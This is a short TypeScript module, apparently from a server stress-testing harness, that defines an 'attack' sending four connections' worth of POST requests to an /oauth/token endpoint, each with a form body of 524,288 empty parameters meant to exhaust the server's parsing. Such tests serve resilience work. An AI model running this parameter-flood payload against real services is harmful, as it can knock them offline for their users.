import type { Attack } from './attack.ts'
import { Sockets, writeAll } from './sockets.ts'

/** Forms of 524,288 empty parameters, one after the other on each connection. */
export const formBodies: Attack = {
  name: 'forms of 500,000 parameters',
  async begin(service) {
    const sockets = new Sockets(service)
    const body = 'a&'.repeat(524_288)
    const head = `POST /oauth/token HTTP/1.1\r\nHost: t\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n\r\n`
    for (let count = 0; count < 4; count++) void writeAll(await sockets.open(), head + body, 3)
    return () => sockets.close()
  },
}
